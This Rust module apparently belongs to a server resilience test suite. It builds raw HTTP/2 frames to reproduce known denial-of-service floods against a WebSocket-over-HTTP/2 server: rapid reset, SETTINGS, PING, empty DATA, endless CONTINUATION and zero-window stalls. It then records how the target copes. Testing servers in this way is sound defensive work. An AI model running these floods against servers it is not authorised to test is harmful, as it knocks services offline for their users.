//! Floods of HTTP/2 frames (RFC 9113), on a server that opens WebSockets over HTTP/2 (RFC 8441).

use std::io::{ErrorKind, Read};
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use ws_test_client::Peer;
use ws_test_client::peer::{Stopped, is_timeout};
use ws_test_client::wire::BINARY;
use ws_test_client::wire::From::Client;

use super::{Field, KIB, MIB, SLACK};
use crate::finding::{Bytes, Finding, fresh_echo};

/// The number of streams that are opened and reset.
const RESETS: u32 = 100_000;

/// The number of bytes of each flood.
const FLOOD: u64 = 32 * MIB;

/// The time without progress of TCP after which the server has stopped reading.
const BLOCKED_AFTER: Duration = Duration::from_secs(2);

/// The number of WebSockets without a window, each in a connection of its own.
const WINDOWLESS: usize = 10;

/// The number of bytes that each of them sends. This fits into the window of 1 MiB that hyper
/// grants.
const SENT: usize = 900 * 1024;

/// The most bytes that the server holds for them: what it received, and what it queued.
pub(super) const HELD: u64 = WINDOWLESS as u64 * (SENT as u64 + 192 * KIB);

/// The time limit for a peer that accepts nothing while bytes are queued for it.
const WRITE_STALL: Duration = Duration::from_secs(30);

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const ACK: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

const INITIAL_WINDOW_SIZE: u16 = 4;
const CANCEL: u32 = 8;

/// Opens streams and resets them at once (CVE-2023-44487).
pub(super) fn rapid_reset(field: &Field) -> Result<Vec<Finding>> {
    let mut peer = connect(field, &[])?;
    let mut opened = 0;
    let mut end = "open";
    while opened < RESETS {
        let ids = (opened..opened + 100).map(|at| 2 * at + 1);
        let reset = |id| frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes());
        let frames: Vec<u8> = ids
            .flat_map(|id| [request(id), reset(id)].concat())
            .collect();
        if let Err(error) = peer.send(&frames) {
            end = match is_timeout(&error) {
                true => "not read any more",
                false => "ended by the server",
            };
            break;
        }
        opened += 100;
    }
    Ok(vec![
        Finding::note("streams reset", opened),
        Finding::note("connection", end),
        fresh_echo("echo meanwhile", &field.target),
    ])
}

/// Sends SETTINGS, all of which must be acknowledged, and reads nothing (CVE-2019-9515).
pub(super) fn settings(field: &Field) -> Result<Vec<Finding>> {
    let peer = connect(field, &[])?;
    flood(field, peer, &frame(SETTINGS, 0, 0, &[]))
}

/// Sends PINGs, all of which must be answered, and reads nothing (CVE-2019-9512).
pub(super) fn pings(field: &Field) -> Result<Vec<Finding>> {
    let peer = connect(field, &[])?;
    flood(field, peer, &frame(PING, 0, 0, &[0; 8]))
}

/// Sends DATA without content to a WebSocket (CVE-2019-9518).
pub(super) fn empty_data(field: &Field) -> Result<Vec<Finding>> {
    let mut peer = connect(field, &[])?;
    peer.send(&request(1))?;
    flood(field, peer, &frame(DATA, 0, 1, &[]))
}

/// Sends a request whose header fields never end (CVE-2024-27316).
pub(super) fn continuations(field: &Field) -> Result<Vec<Finding>> {
    let mut peer = connect(field, &[])?;
    peer.send(&frame(HEADERS, 0, 1, &fields()))?;
    let more = literal("a", &"a".repeat(100)).repeat(10);
    let flood = peer.flood(&frame(CONTINUATION, 0, 1, &more), FLOOD, BLOCKED_AFTER)?;
    Ok(vec![
        Finding::note("bytes taken", Bytes(flood.accepted)),
        Finding::new(
            "connection",
            stopped(flood.stopped),
            "ended by the server",
            flood.stopped == Stopped::Ended,
        ),
        fresh_echo("echo meanwhile", &field.target),
    ])
}

/// Sends messages to an echo and grants no window for the answers. The server gives up the
/// WebSockets after its time limit, and their input no longer takes part of a window then. hyper
/// keeps a stream with its last few writes until the connection ends, so it is not reset.
pub(super) fn zero_windows(field: &Field) -> Result<Vec<Finding>> {
    let message = Client.frame(BINARY, &[b'm'; 1000]);
    let messages = message.repeat(SENT / message.len());
    let mut peers = Vec::new();
    let started = Instant::now();
    for _ in 0..WINDOWLESS {
        let mut peer = connect(field, &[(INITIAL_WINDOW_SIZE, 0)])?;
        // The server opens its windows by SETTINGS, which count from their acknowledgment, and by
        // WINDOW_UPDATE.
        wait_for(&peer, WINDOW_UPDATE)?;
        peer.send(&frame(SETTINGS, ACK, 0, &[]))?;
        peer.send(&request(1))?;
        for piece in messages.chunks(16 * 1024) {
            peer.send(&frame(DATA, 0, 1, piece))?;
        }
        peers.push(peer);
    }
    let meanwhile = fresh_echo("echo meanwhile", &field.target);
    let held = field.target.growth()?;
    for peer in &peers {
        // The windows of the messages that were echoed before the stall.
        peer.tcp().set_read_timeout(Some(SLACK))?;
        while receive(peer)?.is_some() {}
        peer.tcp().set_read_timeout(Some(WRITE_STALL + SLACK))?;
    }
    let mut given_up = 0;
    for peer in &peers {
        given_up += usize::from(wait_for(peer, WINDOW_UPDATE)?);
    }
    let took = (given_up == WINDOWLESS).then_some(started.elapsed());
    Ok(vec![
        Finding::bytes("growth meanwhile", held, HELD),
        meanwhile,
        Finding::count("WebSockets given up", given_up, WINDOWLESS),
        Finding::happened("all given up", took, WRITE_STALL + 4 * SLACK),
    ])
}

/// Sends `unit` without end. The server may take all of it, stop reading, or end the connection.
fn flood(field: &Field, mut peer: Peer, unit: &[u8]) -> Result<Vec<Finding>> {
    let flood = peer.flood(unit, FLOOD, BLOCKED_AFTER)?;
    Ok(vec![
        Finding::note("bytes taken", Bytes(flood.accepted)),
        Finding::note("connection", stopped(flood.stopped)),
        fresh_echo("echo meanwhile", &field.target),
    ])
}

fn stopped(stopped: Stopped) -> &'static str {
    match stopped {
        Stopped::Done => "open",
        Stopped::Blocked => "not read any more",
        Stopped::Ended => "ended by the server",
    }
}

/// Starts HTTP/2 by prior knowledge, with these settings.
fn connect(field: &Field, settings: &[(u16, u32)]) -> Result<Peer> {
    let parameter = |&(id, value): &(u16, u32)| {
        let id = id.to_be_bytes().into_iter();
        id.chain(value.to_be_bytes()).collect::<Vec<_>>()
    };
    let settings: Vec<u8> = settings.iter().flat_map(parameter).collect();
    let mut peer = Peer::connect(field.target.endpoint())?;
    peer.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")?;
    peer.send(&frame(SETTINGS, 0, 0, &settings))?;
    Ok(peer)
}

/// Returns a frame (RFC 9113 §4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, len @ ..] = (payload.len() as u32).to_be_bytes();
    [&len, &[kind, flags][..], &stream.to_be_bytes(), payload].concat()
}

/// Returns the request for a WebSocket (RFC 8441 §5).
fn request(stream: u32) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, stream, &fields())
}

fn fields() -> Vec<u8> {
    let fields = [
        (":method", "CONNECT"),
        (":protocol", "websocket"),
        (":scheme", "http"),
        (":path", "/"),
        (":authority", "localhost"),
        ("sec-websocket-version", "13"),
    ];
    let literals = fields.iter().flat_map(|(name, value)| literal(name, value));
    literals.collect()
}

/// Returns a header field of less than 127 bytes as a literal (RFC 7541 §6.2.2).
fn literal(name: &str, value: &str) -> Vec<u8> {
    let text = |text: &str| [&[text.len() as u8], text.as_bytes()].concat();
    [vec![0], text(name), text(value)].concat()
}

/// Reads frames until one of this type. Returns `false` if none arrives in time.
fn wait_for(peer: &Peer, kind: u8) -> Result<bool> {
    while let Some(received) = receive(peer)? {
        if received == kind {
            return Ok(true);
        }
    }
    Ok(false)
}

/// Reads a frame and returns its type. `None` at the end of the connection, and if none arrives in
/// time.
fn receive(peer: &Peer) -> Result<Option<u8>> {
    let mut tcp = peer.tcp();
    let mut header = [0; 9];
    match tcp.read_exact(&mut header) {
        Err(error) if is_timeout(&error) || error.kind() == ErrorKind::UnexpectedEof => {
            return Ok(None);
        }
        read => read.context("the connection failed")?,
    }
    let [high, middle, low, kind, ..] = header;
    let len = u32::from_be_bytes([0, high, middle, low]);
    tcp.read_exact(&mut vec![0; len as usize])?;
    Ok(Some(kind))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_begin_with_their_length() {
        let ping = frame(PING, 1, 0, &[7; 8]);
        assert_eq!(ping[..9], [0, 0, 8, PING, 1, 0, 0, 0, 0]);
        assert_eq!(ping[9..], [7; 8]);
        assert_eq!(literal("ab", "c"), *b"\0\x02ab\x01c");
    }
}
